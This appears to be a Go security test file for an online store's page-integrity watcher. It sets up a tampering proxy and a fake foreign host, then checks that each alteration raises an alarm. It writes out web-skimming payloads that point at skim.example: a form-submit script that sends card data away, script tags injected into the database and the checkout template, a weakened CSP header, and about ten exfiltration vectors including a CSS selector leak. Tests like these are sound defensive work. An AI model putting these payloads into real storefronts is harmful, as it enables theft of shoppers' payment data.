package attack

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"strongroom/base/db"
	"strongroom/tools/rig"
)

// skimmed is a store whose pages pass through somebody's hands on their way out: a host, a network in front, a machine
// that was broken into.
type skimmed struct {
	*site
	add     atomic.Pointer[string]            // put at the end of every page
	headers atomic.Pointer[map[string]string] // over the store's own
}

// openSkimmed starts a store behind the hands.
func openSkimmed(t *testing.T, s *site) *skimmed {
	t.Helper()
	t.Setenv("STRONGROOM_CLUSTER", "") // one process: what stands in front is the attacker
	inner := "127.0.0.1:" + strconv.Itoa(rig.FreePort(t))
	r := rig.New(t, s.Engine, "STRONGROOM_LIMITS_SCALE=1000", "STRONGROOM_SERVER_LISTEN="+inner)
	x := &skimmed{site: &site{Rig: r}}
	x.spare()
	x.front(t, inner)
	r.Import("handle,category,title:en,title:de,summary:en,description:en,tax_class,sku,price,weight_g,stock\n" +
		"bowl,tableware,Moss bowl,Moosschale,A bowl,Made by hand.,standard,BOWL-1,34.00,500,1000000\n")
	r.Start()
	return x
}

// front listens on the shop's address and passes everything on, altered as the test wants.
func (x *skimmed) front(t *testing.T, inner string) {
	t.Helper()
	u, err := url.Parse(x.Shop)
	fatal(t, err)
	pair, err := tls.LoadX509KeyPair(x.Certificate(), strings.TrimSuffix(x.Certificate(), ".pem")+"-key.pem")
	fatal(t, err)
	ln, err := tls.Listen("tcp", "127.0.0.1:"+u.Port(), &tls.Config{MinVersion: tls.VersionTLS12, Certificates: []tls.Certificate{pair}})
	fatal(t, err)
	way := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: x.Roots, ServerName: "shop.localhost", MinVersion: tls.VersionTLS12}}
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: &httputil.ReverseProxy{Transport: way, ErrorLog: log.New(io.Discard, "", 0), // while the store starts
		Rewrite: func(p *httputil.ProxyRequest) {
			p.Out.URL.Scheme, p.Out.URL.Host, p.Out.Host = "https", inner, p.In.Host
			p.Out.Header["X-Forwarded-For"] = p.In.Header["X-Forwarded-For"]
			p.SetXForwarded()
			p.Out.Header.Del("Accept-Encoding")
		},
		ModifyResponse: x.alter}}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close(); way.CloseIdleConnections() })
}

func (x *skimmed) alter(r *http.Response) error {
	if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
		return nil
	}
	for k, v := range *x.headers.Load() {
		r.Header.Set(k, v)
	}
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return err
	}
	body = bytes.Replace(body, []byte("</main>"), []byte(*x.add.Load()+"</main>"), 1)
	r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
	r.Header.Set("Content-Length", strconv.Itoa(len(body)))
	return nil
}

func (x *skimmed) put(markup string, headers map[string]string) {
	x.add.Store(&markup)
	x.headers.Store(&headers)
}

// spare leaves the pages as they are.
func (x *skimmed) spare() { x.put("", map[string]string{}) }

// looked is what "strongroom pages" says.
type looked struct {
	Outcome     string
	Pages       int
	Trouble     string
	Short       bool
	Differences []struct{ Page, Kind, Name, What string }
}

// look has the store look at itself, as it does every hour.
func (x *skimmed) look(t *testing.T) (l looked) {
	t.Helper()
	out, err := x.Command("pages", "--json")
	if jerr := json.Unmarshal([]byte(out), &l); jerr != nil {
		t.Fatalf("%v: %v: %s", jerr, err, out)
	}
	if (err != nil) != (l.Outcome != "same") {
		t.Errorf("the command ended with %v on %q", err, l.Outcome)
	}
	return l
}

// alarmed looks, and wants an alarm that names the thing: found, written into the log, and mailed to the owner.
func (x *skimmed) alarmed(t *testing.T, kind, name string) {
	t.Helper()
	entries := x.count(t, `SELECT COUNT(*) FROM audit_entry WHERE action = 'pagewatch.differs'`)
	l := x.look(t)
	found := ""
	for _, d := range l.Differences {
		if d.Kind == kind && strings.Contains(d.Name, name) {
			found = d.Page
		}
	}
	if found == "" {
		t.Errorf("%s %q was not seen: %+v", kind, name, l)
	}
	if x.count(t, `SELECT COUNT(*) FROM audit_entry WHERE action = 'pagewatch.differs'`) == entries {
		t.Errorf("%s %q: no entry in the log", kind, name)
	}
	if _, ok := x.Mail.Wait("shop@rig.example", 20*time.Second, func(data string) bool {
		return strings.Contains(strings.ReplaceAll(data, "=\r\n", ""), strings.ReplaceAll(name, "://", "[:]//"))
	}); !ok {
		t.Errorf("%s %q: no mail to the owner", kind, name)
	}
}

// calm looks and wants nothing.
func (x *skimmed) calm(t *testing.T) looked {
	t.Helper()
	l := x.look(t)
	if l.Outcome != "same" || l.Pages < 8 || l.Short {
		t.Errorf("pages that nobody touched: %+v", l)
	}
	return l
}

// skimmer alters what is served, in the three places where it can be: on the way out, in the table of contents, and (in
// full size) in the program's own template. The look from outside must tell each; no altered page runs a script in a
// browser. That the look comes within the hour, the test of the watch says with its clock.
func skimmer(t *testing.T, s *site) string {
	x := openSkimmed(t, s)
	l := x.calm(t)
	x.put(`<script>document.forms[0].addEventListener("submit", e => new Image().src = "https://skim.example/?" + new FormData(e.target))</script>`, nil)
	x.alarmed(t, "script", "inline")
	did := x.inlineBlocked(t)
	x.put("", map[string]string{"Content-Security-Policy": "script-src * 'unsafe-inline'"})
	x.alarmed(t, "header", "Content-Security-Policy")
	x.spare()
	x.calm(t)
	x.change(t, func(tx *db.Tx) error {
		n, err := tx.Exec(`UPDATE catalog_item SET doc = REPLACE(doc, 'Moss bowl', 'Moss bowl <script src=//skim.example/x.js></script>')`)
		if err == nil && n == 0 {
			err = fmt.Errorf("no row was altered")
		}
		return err
	})
	fatal(t, x.Stop()) // goods are kept in memory until the catalogue says that it changed
	x.Start()
	x.alarmed(t, "text", "<script")
	if full {
		x.alteredRelease(t)
		did += "; a release with an altered template"
	}
	return fmt.Sprintf("script added on the way, policy weakened, contents altered: told with entry and mail; %d pages were calm before%s", l.Pages, did)
}

// alteredRelease builds the program with a template that somebody changed, and runs it in place of the right one.
func (x *skimmed) alteredRelease(t *testing.T) {
	t.Helper()
	dir := t.TempDir()
	source, err := filepath.Abs("../../front/storefront/checkout_templ.go")
	fatal(t, err)
	b, err := os.ReadFile(source)
	fatal(t, err)
	const mark = `<form class=\"oblige\" method=\"post\"`
	if !bytes.Contains(b, []byte(mark)) {
		t.Fatal("the template is another one")
	}
	fatal(t, os.WriteFile(filepath.Join(dir, "checkout.go"), bytes.Replace(b, []byte(mark), []byte(`<script src=\"https://skim.example/t.js\"></script>`+mark), 1), 0o600))
	overlay, err := json.Marshal(map[string]map[string]string{"Replace": {source: filepath.Join(dir, "checkout.go")}})
	fatal(t, err)
	fatal(t, os.WriteFile(filepath.Join(dir, "overlay.json"), overlay, 0o600))
	build := exec.Command("go", "build", "-overlay", filepath.Join(dir, "overlay.json"), "-o", filepath.Join(dir, "strongroom"), "strongroom/cmd/strongroom")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	fatal(t, x.Stop())
	right := x.Use(filepath.Join(dir, "strongroom"))
	x.Start()
	x.alarmed(t, "script", "https://skim.example/t.js")
	fatal(t, x.Stop())
	x.Use(right)
	x.Start()
}

// thief is a foreign host that notes whoever comes, by whatever way.
type thief struct {
	*httptest.Server
	udp     *net.UDPConn
	came    atomic.Int64 // over HTTP and WebSocket
	packets atomic.Int64 // over UDP, as WebRTC asks
	policy  atomic.Value // "Name: value", a header of its own pages
}

func openThief(t *testing.T) *thief {
	t.Helper()
	x := &thief{}
	x.Server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/favicon.ico" { // the browser's own wish after the control, whenever it comes
			x.came.Add(1)
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if name, value, ok := strings.Cut(fmt.Sprint(x.policy.Load()), ": "); ok {
			w.Header().Set(name, value)
		}
	}))
	t.Cleanup(x.Close)
	var err error
	x.udp, err = net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	fatal(t, err)
	t.Cleanup(func() { _ = x.udp.Close() })
	go func() {
		b := make([]byte, 1500)
		for {
			if _, _, err := x.udp.ReadFrom(b); err != nil {
				return
			}
			x.packets.Add(1)
		}
	}()
	return x
}

// exfiltration puts on the pages whatever could carry typed things to a foreign host. Each is told by the look from
// outside; in a browser none of them brings anything there, though the page tries all of them itself.
func exfiltration(t *testing.T, s *site) string {
	x := openSkimmed(t, s)
	far := "https://skim.example"
	ways := []struct{ markup, kind, name string }{
		{`<script>fetch("` + far + `/f")</script>`, "script", "inline"},
		{`<img src="` + far + `/i.gif" alt="">`, "connection", "img"},
		{`<link rel="preconnect" href="` + far + `">`, "connection", "link preconnect"},
		{`<form method="post" action="` + far + `/card"><input name="cardnumber"></form>`, "form", far + "/card"},
		{`<form method="post" action="/en/order/link"><input name="cardnumber"></form>`, "field", "cardnumber"},
		{`<iframe src="` + far + `/pay" title="Pay"></iframe>`, "element", "iframe"},
		{`<a href="` + far + `/pay">Pay</a>`, "way", far + "/pay"},
		{`<p onclick="new RTCPeerConnection()">x</p>`, "script", "onclick"},
		{`<meta http-equiv="refresh" content="0; url=` + far + `">`, "connection", "meta refresh"},
		{`<style>input[value^="4"] { background: url(` + far + `/4) }</style>`, "style", "inline"},
	}
	for _, w := range ways {
		x.put(w.markup, nil)
		x.alarmed(t, w.kind, w.name)
	}
	x.spare()
	x.calm(t)
	return fmt.Sprintf("%d ways to a foreign host, each told with entry and mail%s", len(ways), x.nothingLeaves(t))
}
